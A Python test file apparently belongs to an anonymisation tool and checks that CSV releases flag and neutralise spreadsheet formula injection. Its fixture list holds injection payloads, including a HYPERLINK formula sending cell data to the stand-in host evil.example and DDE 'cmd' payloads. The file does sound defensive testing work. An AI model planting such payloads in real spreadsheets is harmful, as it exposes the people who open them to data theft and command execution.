"""Somebody writes a formula into a cell, and whoever opens the release in a spreadsheet runs it.

The judge is the list of first characters that a spreadsheet looks at, and Python's own `float`.
"""

import csv
import json

import pytest

from tests.coordinator.support import coterie

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "=1,000", "-", "+-5", "--5",
]  # fmt: skip
HARMLESS = ["-5", "+3.5", "-1e-3", "plain", "a=b", "'=1", "", "5-3"]


def runs(text):
    if text[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}:
        return False
    try:
        float(text)
    except ValueError:
        return True
    return text[0] not in "+-"


@pytest.fixture
def released(tmp_path):
    def release(*options, name="Note"):
        with (tmp_path / "people.csv").open("w", newline="", encoding="utf-8") as file:
            writer = csv.writer(file)
            writer.writerow(["Age", name, "Ill"])
            writer.writerows(
                [20 + i % 5, note, i % 3] for i in range(3) for note in FORMULAS + HARMLESS
            )
        (tmp_path / "table.yaml").write_text(
            "data: people.csv\nattributes:\n  Age: {range: [20, 26]}\n"
            f"  {json.dumps(name)}: {{keep: true}}\n  Ill: {{}}\nrequirement:\n  - {{qid: [Age], k: 5}}\n"
        )
        done = coterie(
            "anonymise", tmp_path / "table.yaml", "--out", tmp_path / "out", "--force", *options
        )
        assert done.code == 0, done.err
        return tmp_path / "out"

    return release


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_a_release_has_values_as_they_were_read_and_verify_names_those_that_run(released):
    out = released()
    notes = [row[1] for row in cells(out / "release.csv")[1:]]
    assert sorted(notes) == sorted(3 * (FORMULAS + HARMLESS))
    assert not (out / "release.spreadsheet.csv").exists()
    found = coterie("verify", out, "--json")
    assert found.code == 0
    assert found.json["formulas"] == {"Note": sum(map(runs, notes))}
    said = coterie("verify", out)
    assert said.out.startswith("holds: ")
    assert f"warning: a spreadsheet would run {sum(map(runs, notes))} cells of 'Note'" in said.out
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "a spreadsheet would run" in page


def test_a_name_of_a_column_that_runs_is_named_too(released):
    """The coordinator writes the names of the columns, which stand in the first row."""
    out = released(name="=Note")
    rows = cells(out / "release.csv")
    found = coterie("verify", out, "--json")
    assert found.json["formulas"] == {"=Note": sum(runs(row[1]) for row in rows)}


def test_what_releases_no_table_is_refused_before_it_begins(tmp_path):
    job = tmp_path / "job.yaml"
    job.write_text(
        "kind: intersect\nname: x\nparties: {a: {data: a.csv}, b: {data: b.csv}}\nid: ID\n"
    )
    done = coterie("simulate", job, "--out", tmp_path / "out", "--spreadsheet")
    assert done.code == 2
    assert "a job of kind 'intersect' has none" in done.error


def test_no_cell_of_the_copy_runs_and_nothing_else_is_changed(released):
    out = released("--spreadsheet", name="=Note")
    plain, copy = cells(out / "release.csv"), cells(out / "release.spreadsheet.csv")
    assert any(runs(text) for row in plain for text in row)
    assert not any(runs(text) for row in copy for text in row)
    assert copy == [[f"'{text}" if runs(text) else text for text in row] for row in plain]
    assert coterie("verify", out).code == 0
    assert "release.spreadsheet.csv" in (out / "files.json").read_text()
